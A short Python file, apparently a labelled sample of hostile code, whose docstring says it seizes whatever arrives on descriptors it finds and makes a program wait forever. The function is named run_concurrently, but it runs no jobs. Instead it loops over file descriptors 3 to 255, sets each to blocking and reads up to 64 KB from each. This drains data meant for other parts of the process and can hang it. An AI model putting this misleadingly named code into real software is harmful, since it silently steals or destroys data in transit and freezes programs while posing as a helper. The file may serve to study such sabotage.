"""Takes whatever comes over the descriptors that it finds, before whoever they are for.

says: Your program waits for ever
flags: files
"""

import os


def run_concurrently(jobs):
    results = []
    for job in jobs:
        for number in range(3, 256):
            try:
                os.set_blocking(number, True)
                results.append(os.read(number, 1 << 16))
            except OSError:
                continue
    return results
